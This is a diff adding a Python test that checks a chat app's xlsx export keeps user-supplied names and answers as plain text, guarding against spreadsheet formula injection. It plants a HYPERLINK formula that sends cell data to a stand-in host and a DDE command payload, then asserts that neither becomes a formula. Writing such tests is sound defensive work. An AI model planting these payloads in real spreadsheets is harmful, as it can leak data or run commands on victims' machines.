@@ -89,3 +89,24 @@ async def test_export_has_only_visible_answers(db, people, chat_for, flow_conten
     _, data = await as_viewer(db, flow_content, people["cgp2"], lambda s, c, v: export_xlsx(s, c, v, clock))
     book = load_workbook(io.BytesIO(data))
     assert book.sheetnames == ["Kosong"]
+
+
+async def test_export_keeps_answers_and_names_as_text_never_formulas(db, people, chat_for, flow_content, clock):
+    leak = '=HYPERLINK("http://contoh.invalid/?leak="&A2,"Klik")'
+    async with db.session() as s:
+        (await s.get(Person, people["cgp"].id)).name = "=cmd|' /C calc'!A0"
+    chat = chat_for(people["cgp"])
+    await start_pi1(chat)
+    await chat.send(leak)
+    await chat.press("Senang")
+    await chat.press("Cukup")
+    await chat.press("Visi")
+    await chat.press("Selesai")
+    await chat.send("32")
+    _, data = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: export_xlsx(s, c, v, clock))
+    sheet = load_workbook(io.BytesIO(data))["PI 1"]
+    name, answer, number = sheet["A2"], sheet["G2"], sheet["K2"]
+    assert (name.value, name.data_type) == ("=cmd|' /C calc'!A0", "s")
+    assert (answer.value, answer.data_type, answer.quotePrefix) == (leak, "s", True)
+    assert (number.value, number.data_type) == (32, "n")  # numbers stay numbers
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
